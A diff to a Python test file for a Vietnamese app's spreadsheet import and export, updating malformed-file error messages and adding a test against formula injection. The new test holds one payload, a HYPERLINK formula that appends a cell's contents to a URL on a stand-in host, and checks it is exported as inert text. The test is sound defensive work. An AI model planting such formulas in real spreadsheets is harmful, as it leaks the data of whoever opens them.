@@ -184,9 +184,9 @@ def _zip_without_workbook() -> bytes:
 MALFORMED = {
     "csv": ("STT,Họ và tên,Năm sinh\n1,Nguyễn Văn An,1970\n".encode(), "không phải bảng tính"),
     "renamed binary": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "không phải bảng tính"),
-    "zip but not a workbook": (_zip_without_workbook(), "không phải bảng tính"),
+    "zip but not a workbook": (_zip_without_workbook(), "tệp nén"),
     "old xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "Excel cũ (.xls)"),
-    "zero bytes": (b"", "Tệp trống"),
+    "zero bytes": (b"", "tệp rỗng"),
     "empty workbook": (xlsx_bytes([], headers=None, title=None), "Bảng tính trống"),
     "header only": (xlsx_bytes([]), "chỉ có dòng tiêu đề"),
     "no header row": (xlsx_bytes(GOOD_ROWS, headers=None, title=None), "dòng tiêu đề"),
@@ -309,3 +309,20 @@ def test_a_template_sent_back_empty_says_so(world, tenant_session, principal_of)
             fileobj=io.BytesIO(xlsx.template_workbook()),
         )
     assert "chỉ có dòng tiêu đề" in caught.value.message
+
+
+def test_export_writes_formula_like_text_as_text_and_the_import_reads_it_back(
+    world, as_user, make_person
+):
+    trap = '=HYPERLINK("http://x.example/?"&B5,"Xem")'
+    make_person(full_name="Nguyễn Văn Bẫy", notes=trap)
+    staff = as_user("alpha", "x-staff")
+    exported = staff.get(
+        "supervision/people/export", query_string={"unit_id": world.alpha.commune_x}
+    )
+    sheet = load_workbook(io.BytesIO(exported.data)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert "'" + trap in [c.value for c in cells]
+    shown = preview(as_user("alpha", "admin"), exported.data, world.alpha.commune_y).get_json()
+    assert [r["values"]["notes"] for r in shown["rows"]] == [trap], shown
